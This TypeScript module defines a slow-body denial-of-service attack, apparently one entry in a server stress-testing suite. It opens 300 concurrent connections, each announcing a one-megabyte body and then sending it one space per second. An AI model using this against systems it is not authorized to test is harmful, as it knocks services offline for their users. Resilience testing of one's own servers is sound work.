import { type Attack, strangers } from "./attack.ts";
import { repeat, sendSlowly, unsignedHead } from "./connection.ts";

export const slowBodies: Attack = {
  what: "bodies of a byte a second, 300 at once",
  run: (url, signal) =>
    strangers(300, signal, () =>
      sendSlowly(url, signal, { pieces: repeat(`${unsignedHead(1_000_000)}\r\n`, " "), pauseMs: 1_000 }),
    ),
};
